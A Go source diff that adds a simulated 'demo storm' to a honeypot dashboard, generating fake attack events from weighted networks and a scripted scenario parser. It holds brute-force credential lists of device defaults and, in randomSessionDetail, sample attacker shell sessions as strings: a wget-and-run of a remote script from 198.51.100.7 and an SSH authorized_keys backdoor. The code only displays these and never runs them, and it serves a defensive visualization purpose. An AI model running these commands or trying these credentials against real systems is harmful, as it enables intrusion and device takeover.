@@ -0,0 +1,533 @@
+package tui
+
+import (
+	"encoding/binary"
+	"fmt"
+	"math/rand"
+	"net"
+	"os"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"SecKC-MHN-Globe/pkg/api"
+	"SecKC-MHN-Globe/pkg/mhn"
+)
+
+// demoSource is a network the demo storm draws attackers from. Weights
+// follow each network's share of the traffic seen by public honeypots, and
+// the prefixes are representative blocks of it. Locations are seeded into
+// the geolocation cache, so demo traffic lands somewhere without lookups.
+type demoSource struct {
+	Country string
+	City    string
+	Lat     float64
+	Lon     float64
+	ASN     string
+	Org     string
+	Prefix  string
+	Weight  int
+}
+
+var demoSources = []demoSource{
+	{"CN", "Nanjing", 32.06, 118.78, "AS4134", "Chinanet", "218.92.0.0/16", 145},
+	{"RU", "Moscow", 55.76, 37.62, "AS12389", "Rostelecom", "95.167.0.0/16", 55},
+	{"CN", "Beijing", 39.90, 116.41, "AS4837", "China Unicom", "123.112.0.0/12", 53},
+	{"CN", "Hangzhou", 30.27, 120.15, "AS37963", "Alibaba Cloud", "47.96.0.0/11", 38},
+	{"DE", "Falkenstein", 50.48, 12.37, "AS24940", "Hetzner Online", "88.198.0.0/16", 36},
+	{"US", "Ashburn", 39.04, -77.49, "AS14618", "Amazon", "3.80.0.0/12", 30},
+	{"IN", "Mumbai", 19.08, 72.88, "AS9829", "BSNL", "117.192.0.0/10", 25},
+	{"NL", "Amsterdam", 52.37, 4.90, "AS14061", "DigitalOcean", "188.166.0.0/16", 25},
+	{"VN", "Hanoi", 21.03, 105.85, "AS7552", "Viettel", "27.64.0.0/12", 21},
+	{"NG", "Lagos", 6.45, 3.39, "AS29465", "MTN Nigeria", "105.112.0.0/12", 21},
+	{"RU", "Saint Petersburg", 59.94, 30.31, "AS49505", "Selectel", "92.53.64.0/18", 18},
+	{"RO", "Bucharest", 44.43, 26.10, "AS8708", "RCS & RDS", "86.120.0.0/13", 12},
+	{"FR", "Roubaix", 50.69, 3.17, "AS16276", "OVH", "51.75.0.0/16", 10},
+	{"KR", "Seoul", 37.57, 126.98, "AS4766", "Korea Telecom", "121.128.0.0/10", 9},
+	{"US", "Council Bluffs", 41.26, -95.86, "AS396982", "Google Cloud", "34.64.0.0/10", 9},
+	{"ID", "Jakarta", -6.21, 106.85, "AS7713", "Telkom Indonesia", "36.64.0.0/11", 9},
+	{"BR", "Sao Paulo", -23.55, -46.63, "AS28573", "Claro NXT", "177.32.0.0/11", 8},
+	{"SG", "Singapore", 1.35, 103.82, "AS63949", "Akamai Connected Cloud", "172.104.0.0/15", 6},
+	{"TW", "Taipei", 25.03, 121.56, "AS3462", "Chunghwa Telecom", "1.160.0.0/12", 5},
+	{"TR", "Istanbul", 41.01, 28.98, "AS9121", "Turk Telekom", "78.160.0.0/11", 2},
+	{"MX", "Mexico City", 19.43, -99.13, "AS8151", "Uninet", "187.128.0.0/10", 2},
+	{"IR", "Tehran", 35.69, 51.39, "AS58224", "TCI", "5.112.0.0/12", 2},
+}
+
+// demoProtocols weights the services demo attackers go for
+var demoProtocols = []struct {
+	Name   string
+	Weight int
+}{
+	{"ssh", 50}, {"telnet", 25}, {"http", 12}, {"ftp", 8}, {"smtp", 5},
+}
+
+// demoCredentials are the username:password pairs tried against each
+// service, most common first: distro and database defaults over SSH, IoT
+// botnet lists over Telnet, admin panels over HTTP
+var demoCredentials = map[string][]string{
+	"ssh": {"root:123456", "root:root", "admin:admin", "root:password", "ubuntu:ubuntu", "user:user",
+		"test:test", "oracle:oracle", "postgres:postgres", "pi:raspberry", "root:P@ssw0rd", "git:git",
+		"deploy:deploy", "root:1qaz2wsx", "hadoop:hadoop", "ftpuser:ftpuser"},
+	"telnet": {"root:xc3511", "admin:admin", "root:vizxv", "root:888888", "root:default", "support:support",
+		"admin:1234", "root:7ujMko0admin", "guest:12345", "user:user", "root:Zte521", "root:hi3518"},
+	"http": {"admin:admin", "admin:password", "admin:123456", "root:root", "tomcat:tomcat",
+		"manager:manager", "admin:1234", "user:user"},
+	"ftp": {"anonymous:anonymous", "ftp:ftp", "admin:admin", "ftpuser:ftpuser", "test:test", "root:123456"},
+	"smtp": {"admin:admin", "test:test", "info:info123", "postmaster:postmaster", "sales:sales",
+		"webmaster:123456"},
+}
+
+// demoAttacker is one address working through a run of attempts
+type demoAttacker struct {
+	ip       string
+	source   *demoSource
+	protocol string
+	tried    int // Credentials tried so far; each attacker walks its list in order
+	left     int // Attempts before it moves on
+}
+
+const (
+	maxDemoAttackers = 12   // Attackers at work at once
+	demoNewAttacker  = 0.35 // Chance an event comes from a new attacker
+	demoRunLength    = 6.0  // Mean attempts per attacker, exponentially distributed
+)
+
+// DemoGenerator invents attack events. Attackers come from demoSources by
+// weight and each tries a run of credentials before moving on, so repeat
+// offenders, credential sprays and busy networks look like the real thing.
+type DemoGenerator struct {
+	rng       *rand.Rand
+	attackers []*demoAttacker
+	mutex     sync.Mutex
+}
+
+func NewDemoGenerator(seed int64) *DemoGenerator {
+	return &DemoGenerator{rng: rand.New(rand.NewSource(seed))}
+}
+
+// demoEvent is one invented attempt
+type demoEvent struct {
+	IP       string
+	Username string
+	Password string
+	Protocol string
+	Source   *demoSource
+	Session  *api.SessionDetail
+}
+
+// pickWeighted returns an index from 0 to n-1 with chances in proportion
+// to weight(i)
+func pickWeighted(rng *rand.Rand, n int, weight func(i int) int) int {
+	total := 0
+	for i := range n {
+		total += weight(i)
+	}
+	r := rng.Intn(max(total, 1))
+	for i := range n {
+		if r -= weight(i); r < 0 {
+			return i
+		}
+	}
+	return n - 1
+}
+
+// matchesDemoSource reports whether a source is in the country code or ASN
+// given, or from is empty
+func matchesDemoSource(src *demoSource, from string) bool {
+	return from == "" || strings.EqualFold(src.Country, from) || strings.EqualFold(src.ASN, from)
+}
+
+// Next returns the next attempt. from limits new attackers to a country code
+// or ASN and protocol to one service; attackers already at work elsewhere
+// wait until the limits are lifted.
+func (g *DemoGenerator) Next(from, protocol string) demoEvent {
+	g.mutex.Lock()
+	defer g.mutex.Unlock()
+
+	var working []*demoAttacker
+	for _, a := range g.attackers {
+		if matchesDemoSource(a.source, from) && (protocol == "" || a.protocol == protocol) {
+			working = append(working, a)
+		}
+	}
+	var a *demoAttacker
+	if len(working) == 0 || (len(g.attackers) < maxDemoAttackers && g.rng.Float64() < demoNewAttacker) {
+		a = g.spawn(from, protocol)
+	} else {
+		a = working[g.rng.Intn(len(working))]
+	}
+
+	creds := demoCredentials[a.protocol]
+	username, password, _ := strings.Cut(creds[a.tried%len(creds)], ":")
+	a.tried++
+	if a.left--; a.left <= 0 {
+		g.attackers = slices.DeleteFunc(g.attackers, func(b *demoAttacker) bool { return b == a })
+	}
+	return demoEvent{
+		IP:       a.ip,
+		Username: username,
+		Password: password,
+		Protocol: a.protocol,
+		Source:   a.source,
+		Session:  randomSessionDetail(g.rng, a.protocol),
+	}
+}
+
+// spawn starts a new attacker at a random address in a weighted source
+func (g *DemoGenerator) spawn(from, protocol string) *demoAttacker {
+	i := pickWeighted(g.rng, len(demoSources), func(i int) int {
+		if !matchesDemoSource(&demoSources[i], from) {
+			return 0
+		}
+		return demoSources[i].Weight
+	})
+	src := &demoSources[i]
+	if len(g.attackers) >= maxDemoAttackers {
+		g.attackers = g.attackers[1:]
+	}
+	if protocol == "" {
+		protocol = demoProtocols[pickWeighted(g.rng, len(demoProtocols), func(i int) int { return demoProtocols[i].Weight })].Name
+	}
+	_, network, _ := net.ParseCIDR(src.Prefix)
+	base := binary.BigEndian.Uint32(network.IP.To4())
+	mask := binary.BigEndian.Uint32(network.Mask)
+	addr := base | (g.rng.Uint32() &^ mask &^ 0xff) | uint32(1+g.rng.Intn(254))
+	ip := make(net.IP, 4)
+	binary.BigEndian.PutUint32(ip, addr)
+
+	// A few attackers hammer away; most try a handful of pairs
+	a := &demoAttacker{
+		ip:       ip.String(),
+		source:   src,
+		protocol: protocol,
+		tried:    int(g.rng.ExpFloat64() * 2),
+		left:     1 + int(g.rng.ExpFloat64()*demoRunLength),
+	}
+	g.attackers = append(g.attackers, a)
+	return a
+}
+
+// add puts the event on the dashboard, first seeding its location near the
+// source's city so the lookup finds it in the cache
+func (ev demoEvent) add(dashboard *Dashboard, rng *rand.Rand) {
+	if GlobalGeoIP != nil {
+		GlobalGeoIP.Seed(ev.IP, api.LocationInfo{
+			City:      ev.Source.City,
+			Country:   ev.Source.Country,
+			Latitude:  ev.Source.Lat + (rng.Float64()-0.5)*0.6,
+			Longitude: ev.Source.Lon + (rng.Float64()-0.5)*0.6,
+			ASN:       ev.Source.ASN,
+			Org:       ev.Source.Org,
+			Valid:     true,
+		})
+	}
+	if GlobalCoverage != nil {
+		GlobalCoverage.Record("demo", ev.Protocol, time.Now())
+	}
+	dashboard.AddSession(ev.IP, ev.Username, ev.Password, ev.Protocol, mhn.ServicePort(ev.Protocol), ev.Session)
+}
+
+// DemoPhase is one step of a demo scenario
+type DemoPhase struct {
+	From     float64 // Events per second as the phase starts
+	To       float64 // Events per second as it ends; From unless it ramps
+	Duration time.Duration
+	Source   string // Country code or ASN new attackers come from, "" for anywhere
+	Protocol string // Service attacked, "" for the usual mix
+}
+
+// Rate is the phase's event rate elapsed into it
+func (p DemoPhase) Rate(elapsed time.Duration) float64 {
+	return p.From + (p.To-p.From)*min(elapsed.Seconds()/p.Duration.Seconds(), 1)
+}
+
+func (p DemoPhase) String() string {
+	s := fmt.Sprintf("%g/s", p.From)
+	if p.To != p.From {
+		s = fmt.Sprintf("%g-%g/s", p.From, p.To)
+	}
+	s += " for " + p.Duration.String()
+	if p.Source != "" {
+		s += " from " + p.Source
+	}
+	if p.Protocol != "" {
+		s += " proto " + p.Protocol
+	}
+	return s
+}
+
+// DemoScenario is a script of timed phases for reproducible demos
+type DemoScenario struct {
+	Phases []DemoPhase
+	Repeat bool  // Start over after the last phase instead of carrying on at --demo-rate
+	Seed   int64 // Seeds the generator so every run invents the same attackers, 0 for the clock
+}
+
+const MaxDemoRate = 1000
+
+// parseDemoRate reads "quiet", "<n>/s" or a ramp, "<n>-<m>/s" or
+// "<n>/s-<m>/s"
+func parseDemoRate(text string) (float64, float64, error) {
+	if text == "quiet" {
+		return 0, 0, nil
+	}
+	if !strings.HasSuffix(text, "/s") {
+		return 0, 0, fmt.Errorf("want a rate like 200/s, 10-300/s or quiet, got %q", text)
+	}
+	fromText, toText, ramp := strings.Cut(strings.TrimSuffix(text, "/s"), "-")
+	fromText = strings.TrimSuffix(fromText, "/s")
+	if !ramp {
+		toText = fromText
+	}
+	from, err1 := strconv.ParseFloat(fromText, 64)
+	to, err2 := strconv.ParseFloat(toText, 64)
+	switch {
+	case err1 != nil || err2 != nil:
+		return 0, 0, fmt.Errorf("invalid rate %q", text)
+	case from < 0 || to < 0 || from > MaxDemoRate || to > MaxDemoRate:
+		return 0, 0, fmt.Errorf("rate must be between 0 and %d per second", MaxDemoRate)
+	}
+	return from, to, nil
+}
+
+// ParseDemoScenario reads a scenario: phases separated by newlines or
+// commas, each a rate, a duration and optional limits, in any order after
+// the rate, with "then", "for" and # comments ignored:
+//
+//	quiet 60s, then 200/s from CN for 30s
+//	10-300/s 2m proto telnet
+//	50/s 5m from AS14061
+//	seed 42
+//	repeat
+func ParseDemoScenario(text string) (*DemoScenario, error) {
+	sc := &DemoScenario{}
+	for n, line := range strings.Split(text, "\n") {
+		line, _, _ = strings.Cut(line, "#")
+		for _, clause := range strings.Split(line, ",") {
+			words := strings.Fields(strings.ToLower(clause))
+			if len(words) > 0 && words[0] == "then" {
+				words = words[1:]
+			}
+			if len(words) == 0 {
+				continue
+			}
+			if err := sc.parseClause(words); err != nil {
+				return nil, fmt.Errorf("line %d: %q: %w", n+1, strings.TrimSpace(clause), err)
+			}
+		}
+	}
+	if len(sc.Phases) == 0 {
+		return nil, fmt.Errorf("no phases")
+	}
+	return sc, nil
+}
+
+func (sc *DemoScenario) parseClause(words []string) error {
+	switch words[0] {
+	case "repeat", "loop":
+		sc.Repeat = true
+		return nil
+	case "seed":
+		if len(words) != 2 {
+			return fmt.Errorf("want seed <number>")
+		}
+		seed, err := strconv.ParseInt(words[1], 10, 64)
+		if err != nil || seed == 0 {
+			return fmt.Errorf("seed must be a non-zero integer")
+		}
+		sc.Seed = seed
+		return nil
+	}
+
+	var phase DemoPhase
+	var err error
+	if phase.From, phase.To, err = parseDemoRate(words[0]); err != nil {
+		return err
+	}
+	for i := 1; i < len(words); i++ {
+		word := words[i]
+		switch word {
+		case "for":
+			continue
+		case "from", "proto":
+			if i+1 == len(words) {
+				return fmt.Errorf("%s needs a value", word)
+			}
+			i++
+			if word == "from" {
+				phase.Source = strings.ToUpper(words[i])
+				if !slices.ContainsFunc(demoSources, func(src demoSource) bool { return matchesDemoSource(&src, phase.Source) }) {
+					return fmt.Errorf("no demo attackers from %s", phase.Source)
+				}
+			} else {
+				phase.Protocol = words[i]
+				if _, ok := demoCredentials[phase.Protocol]; !ok {
+					return fmt.Errorf("unknown protocol %q (protocols: ssh, telnet, http, ftp, smtp)", phase.Protocol)
+				}
+			}
+		default:
+			d, err := time.ParseDuration(word)
+			if err != nil || d <= 0 {
+				return fmt.Errorf("unexpected %q", word)
+			}
+			phase.Duration = d
+		}
+	}
+	if phase.Duration == 0 {
+		return fmt.Errorf("phase needs a duration")
+	}
+	sc.Phases = append(sc.Phases, phase)
+	return nil
+}
+
+// LoadDemoScenario reads a scenario file
+func LoadDemoScenario(path string) (*DemoScenario, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, err
+	}
+	sc, err := ParseDemoScenario(string(data))
+	if err != nil {
+		return nil, fmt.Errorf("%s: %w", path, err)
+	}
+	return sc, nil
+}
+
+// At returns the phase running elapsed into the scenario, its index and
+// its rate; the index is -1 once a scenario that does not repeat is over
+func (sc *DemoScenario) At(elapsed time.Duration) (DemoPhase, int, float64) {
+	var total time.Duration
+	for _, phase := range sc.Phases {
+		total += phase.Duration
+	}
+	if sc.Repeat {
+		elapsed %= total
+	}
+	for i, phase := range sc.Phases {
+		if elapsed < phase.Duration {
+			return phase, i, phase.Rate(elapsed)
+		}
+		elapsed -= phase.Duration
+	}
+	return DemoPhase{}, -1, 0
+}
+
+// demoTick is how often the storm adds the events that are due
+const demoTick = 50 * time.Millisecond
+
+type DemoStorm struct {
+	enabled  bool
+	asn      int
+	rate     int
+	scenario *DemoScenario // Timed phases, nil for a steady rate
+	active   bool
+	stopChan chan bool
+}
+
+func NewDemoStorm() *DemoStorm {
+	return &DemoStorm{
+		enabled:  false,
+		stopChan: make(chan bool),
+	}
+}
+
+// Enable turns the storm on at rate events per second, or following scenario
+// when it is not nil
+func (ds *DemoStorm) Enable(rate int, scenario *DemoScenario) {
+	ds.enabled = true
+	ds.rate = rate
+	ds.scenario = scenario
+}
+
+// Enabled reports whether the storm was turned on
+func (ds *DemoStorm) Enabled() bool {
+	return ds.enabled
+}
+
+// Start adds events at --demo-rate, or as the scenario's phases say, until
+// the scenario ends and the steady rate takes over again
+func (ds *DemoStorm) Start(dashboard *Dashboard) {
+	if !ds.enabled || ds.active {
+		return
+	}
+
+	ds.active = true
+	seed := time.Now().UnixNano()
+	if ds.scenario != nil && ds.scenario.Seed != 0 {
+		seed = ds.scenario.Seed
+	}
+	gen := NewDemoGenerator(seed)
+	jitter := rand.New(rand.NewSource(seed))
+	api.Workers.Go("demo-storm", func(stop <-chan struct{}) error {
+		ticker := time.NewTicker(demoTick)
+		defer ticker.Stop()
+
+		start := time.Now()
+		current := -2 // Phase being played, -1 once the scenario is over
+		owed := 0.0   // Events due but not yet added
+		for {
+			select {
+			case <-stop:
+				return nil
+			case <-ds.stopChan:
+				return nil
+			case now := <-ticker.C:
+				phase, index, rate := DemoPhase{}, -1, float64(ds.rate)
+				if ds.scenario != nil {
+					phase, index, rate = ds.scenario.At(now.Sub(start))
+					if index < 0 {
+						rate = float64(ds.rate)
+					}
+				}
+				if index != current {
+					current = index
+					if index >= 0 {
+						debugLog("Demo: Phase %d: %s", index+1, phase)
+					} else {
+						debugLog("Demo: %d/s", ds.rate)
+					}
+				}
+				for owed += rate * demoTick.Seconds(); owed >= 1; owed-- {
+					gen.Next(phase.Source, phase.Protocol).add(dashboard, jitter)
+				}
+			}
+		}
+	})
+}
+
+func (ds *DemoStorm) Stop() {
+	if ds.active {
+		ds.stopChan <- true
+		ds.active = false
+	}
+}
+
+// randomSessionDetail gives some demo shell logins a plausible post-login
+// session so the session detail panel has something to show
+func randomSessionDetail(rng *rand.Rand, protocol string) *api.SessionDetail {
+	if (protocol != "ssh" && protocol != "telnet") || rng.Intn(8) != 0 {
+		return nil
+	}
+	scripts := [][]string{
+		{"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "ls -lh $(which ls)", "crontab -l", "w"},
+		{"cd /tmp", "wget http://198.51.100.7/bins.sh", "chmod 777 bins.sh", "sh bins.sh", "rm -rf bins.sh"},
+		{"echo -e \"\\x41\\x4b\\x34\\x37\"", "cat /bin/echo", "cd ~ && rm -rf .ssh && mkdir .ssh", "echo \"ssh-rsa AAAAB3Nza... mdrfckr\" >> .ssh/authorized_keys", "chmod -R go= ~/.ssh"},
+	}
+	script := scripts[rng.Intn(len(scripts))]
+	end := time.Now().UTC()
+	detail := &api.SessionDetail{
+		ID:       fmt.Sprintf("%012x", rng.Int63n(1<<48)),
+		Start:    end.Add(-time.Duration(5+rng.Intn(300)) * time.Second).Format(time.RFC3339),
+		End:      end.Format(time.RFC3339),
+		Version:  "SSH-2.0-Go",
+		Commands: script,
+	}
+	if strings.Contains(strings.Join(script, " "), "wget") {
+		detail.URLs = []string{"http://198.51.100.7/bins.sh"}
+		detail.Hashes = []string{fmt.Sprintf("%016x%016x%016x%016x", rng.Uint64(), rng.Uint64(), rng.Uint64(), rng.Uint64())}
+	}
+	return detail
+}